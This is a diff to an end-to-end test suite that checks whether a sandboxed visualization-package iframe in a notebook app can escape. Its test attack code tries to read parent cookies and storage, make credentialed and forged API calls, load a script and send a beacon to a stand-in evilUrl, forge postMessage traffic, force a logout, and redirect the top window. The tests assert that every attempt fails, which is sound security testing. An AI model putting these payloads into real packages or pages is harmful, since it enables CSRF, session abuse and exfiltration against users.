@@ -160,15 +160,94 @@ it('an output in the app does not use WebRTC', async () => {
   await close();
 });
 
+/** Runs in the frame of a package, and writes into the frame's body what it reached. */
+function attack(url: string, evil: string): void {
+  const shut = (): never => {
+    throw new Error('shut');
+  };
+  const answered = (start: (yes: () => void, no: () => void) => void) =>
+    new Promise<void>((yes, no) => {
+      setTimeout(no, 1_000);
+      start(yes, no);
+    });
+  const call = `${url}/api/notebook`;
+  const credentials = 'include';
+  const forged = '{"name":"forged"}';
+  const attacks: Record<string, () => unknown> = {
+    page: () => parent.document.title,
+    top: () => top!.document.title,
+    storage: () => localStorage.length,
+    'storage of the page': () => parent.localStorage.length,
+    cookies: () => document.cookie,
+    databases: () => indexedDB.open('x'),
+    caches: () => caches.open('x'),
+    call: () => fetch(call, { credentials }),
+    change: () => fetch(call, { method: 'POST', mode: 'no-cors', credentials, body: forged }),
+    request: () =>
+      answered((yes, no) => {
+        const request = new XMLHttpRequest();
+        Object.assign(request, { withCredentials: true, onload: yes, onerror: no });
+        request.open('GET', call);
+        request.send();
+      }),
+    socket: () =>
+      answered((onopen, onerror) =>
+        Object.assign(new WebSocket(`${url.replace('http', 'ws')}/ws`), { onopen, onerror }),
+      ),
+    events: () =>
+      answered((onopen, onerror) => Object.assign(new EventSource(call), { onopen, onerror })),
+    picture: () =>
+      answered((onload, onerror) =>
+        Object.assign(new Image(), { onload, onerror, src: `${url}/icon.svg` }),
+      ),
+    script: () =>
+      answered((onload, onerror) => {
+        const script = document.createElement('script');
+        document.head.append(Object.assign(script, { onload, onerror, src: `${evil}/x.js` }));
+      }),
+    worker: () =>
+      answered((yes, no) => {
+        const code = `fetch('${call}').then(() => postMessage(1), () => postMessage(0))`;
+        const worker = new Worker(URL.createObjectURL(new Blob([code])));
+        worker.onmessage = ({ data }) => (data ? yes() : no());
+      }),
+    window: () => window.open(`${evil}/window`) ?? shut(),
+    // The browser says yes; the other host would see it.
+    beacon: () => [navigator.sendBeacon(`${evil}/beacon`), shut()],
+  };
+  const place = { url: `${evil}/link`, href: `${evil}/link` };
+  const message = { ...place, config: { stolen: 1 }, height: 1e9, message: 'forged' };
+  const types = ['ready', 'port', 'show', 'config', 'height', 'open-link', 'message', 'error'];
+  for (const target of [parent, top!])
+    for (const type of types) target.postMessage({ ...message, type }, '*');
+  const form = document.createElement('form');
+  Object.assign(form, { method: 'post', action: `${url}/api/login/logout`, target: '_top' });
+  document.body.append(form);
+  form.submit();
+  for (const target of [top!, parent])
+    try {
+      target.location.href = `${evil}/top`;
+    } catch {}
+  const tries = Object.entries(attacks).map(async ([name, attempt]) => {
+    try {
+      await attempt();
+      return [name];
+    } catch {
+      return [];
+    }
+  });
+  void Promise.all(tries).then((reached) => {
+    document.body.dataset['reached'] = reached.flat().join(', ') || 'nothing';
+  });
+}
+
 describe('a package that attacks', () => {
   const NAME = 'a-hostile-view';
   let page: Page;
   let pageClosed: () => Promise<void>;
-  const frame = () => page.frameLocator('iframe.package-frame');
 
   /** Shows a table with the package in the app of a user, or on the portal's page. */
   async function open(place: string, body: string): Promise<void> {
-    const [prepare, render] = [body, "document.body.dataset['drawn'] = 'yes'"];
     const version = `1.0.${Math.floor(Math.random() * 1e9)}`;
     registry.publish(NAME, version, {
       more: { keywords: ['zeppelin-visualization'], dependencies: { 'zeppelin-vis': '*' } },
@@ -178,7 +257,7 @@ describe('a package that attacks', () => {
           "import Passthrough from 'zeppelin-tabledata/passthrough';" +
           'export default class extends Visualization {' +
           'getTransformation() { return new Passthrough({}); }' +
-          `render() { ${render}; if (this.done) return; this.done = true; ${prepare} } }`,
+          `render() { if (this.done) return; this.done = true; ${body} } }`,
       },
     });
     await client.packages.enable(NAME, `${NAME}@${version}`);
@@ -202,58 +281,11 @@ describe('a package that attacks', () => {
 
   it.each(['the app', 'the portal'])('in %s reaches nothing [S97]', async (place) => {
     const { url } = embedded.server;
-    const api = JSON.stringify(`${url}/api/notebook`);
-    const soon = (start: string): string =>
-      `() => new Promise((reached, shut) => { setTimeout(() => shut('late'), 1000); ${start} })`;
-    const attacks: Record<string, string> = {
-      page: '() => parent.document.title',
-      top: '() => top.document.title',
-      storage: '() => localStorage.length',
-      'storage of the page': '() => parent.localStorage.length',
-      databases:
-        "() => new Promise((done, no) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = no })",
-      cookies: '() => document.cookie',
-      call: `() => fetch(${api}, { credentials: 'include' })`,
-      'change by a blind call': `() => fetch(${api}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"name":"forged"}' })`,
-      'old call': soon(
-        `const x = new XMLHttpRequest(); x.withCredentials = true; x.onload = reached; x.onerror = shut; x.open('GET', ${api}); x.send()`,
-      ),
-      socket: soon(
-        `const s = new WebSocket(${JSON.stringify(`${url.replace('http', 'ws')}/ws`)}); s.onopen = reached; s.onerror = shut`,
-      ),
-      picture: soon(
-        `const i = new Image(); i.onload = reached; i.onerror = shut; i.src = ${JSON.stringify(`${url}/icon.svg`)}`,
-      ),
-      script: soon(
-        `const e = document.createElement('script'); e.onload = reached; e.onerror = shut; e.src = ${JSON.stringify(`${evilUrl}/x.js`)}; document.head.append(e)`,
-      ),
-      worker: soon(
-        `const w = new Worker(URL.createObjectURL(new Blob(['fetch(' + ${JSON.stringify(api)} + ').then(() => postMessage(1), () => postMessage(0))']))); w.onmessage = ({ data }) => data ? reached() : shut()`,
-      ),
-      window: `() => { if (!window.open(${JSON.stringify(`${evilUrl}/window`)})) throw 'shut' }`,
-      beacon: `() => { navigator.sendBeacon(${JSON.stringify(`${evilUrl}/beacon`)}); throw 'seen at the other host' }`,
-    };
-    await open(
-      place,
-      `const attacks = {${Object.entries(attacks)
-        .map(([name, code]) => `${JSON.stringify(name)}: ${code}`)
-        .join(', ')}};
-      const send = parent.postMessage.bind(parent);
-      const port = { type: 'port' };
-      for (const target of [parent, top]) for (const type of ['ready', 'port', 'show', 'config', 'height', 'open-link', 'message', 'error'])
-        target.postMessage({ type, config: { stolen: 1 }, url: '${evilUrl}/link', href: '${evilUrl}/link', height: 1e9, message: 'forged' }, '*');
-      ${rtc()}
-      const form = document.createElement('form');
-      form.method = 'post'; form.action = '${url}/api/login/logout'; form.target = '_top';
-      document.body.append(form); form.submit();
-      for (const where of [top, parent]) try { where.location = '${evilUrl}/top' } catch {}
-      Promise.all(Object.entries(attacks).map(async ([name, attack]) => {
-        try { await attack(); return name } catch { return '' }
-      })).then((reached) => { document.body.dataset.reached = reached.filter(Boolean).join(', ') || 'nothing' });`,
-    );
-    const reached = () => frame().locator('body').getAttribute('data-reached');
+    await open(place, `(${attack})('${url}', '${evilUrl}'); try { ${rtc()} } catch {}`);
     const before = page.url();
-    await expect.poll(reached).toBe('nothing');
+    const outer = page.frameLocator('iframe.package-frame');
+    const frame = place === 'the app' ? outer : outer.frameLocator('iframe');
+    await expect.poll(() => frame.locator('body').getAttribute('data-reached')).toBe('nothing');
     await wait(ARRIVAL_MS);
     expect({ hits, packets, url: page.url() }).toEqual({ hits: [], packets: 0, url: before });
     expect((await client.notes.list()).map(({ path }) => path)).not.toContain('forged');
@@ -263,13 +295,17 @@ describe('a package that attacks', () => {
   });
 
   it.each([
-    ['leads its frame away', `location = '${evilUrl}/self'`],
-    ['sends messages without end', "for (let n = 0; n < 1e5; n += 1) parent.postMessage('x', '*')"],
-  ])('and %s is stopped [S97]', async (_, body) => {
+    ['leads its frame away', 'location = target'],
+    ['leads its frame away later', 'setTimeout(() => (location = target), 500)', true],
+    ['floods the page', "for (let n = 0; n < 1e5; n += 1) parent.postMessage('x', '*')"],
+    ['floods its view', 'for (let n = 0; n < 500; n += 1) this.emitConfig({ n })', true],
+  ])('and %s reaches nothing, and is stopped [S97]', async (_, attack, isStopped = false) => {
     for (const place of ['the app', 'the portal']) {
-      await open(place, body);
-      await page.getByText('Try again').first().waitFor();
-      expect(await page.locator('iframe.package-frame').count()).toBe(0);
+      await open(place, `const target = '${evilUrl}/self'; ${attack}`);
+      if (isStopped) await page.getByText('Try again').first().waitFor();
+      else await page.locator('article').getByText('Took').waitFor();
+      expect(await page.locator('iframe.package-frame').count()).toBeLessThan(isStopped ? 1 : 2);
+      await wait(ARRIVAL_MS);
       expect(hits).toEqual([]);
       await pageClosed();
     }
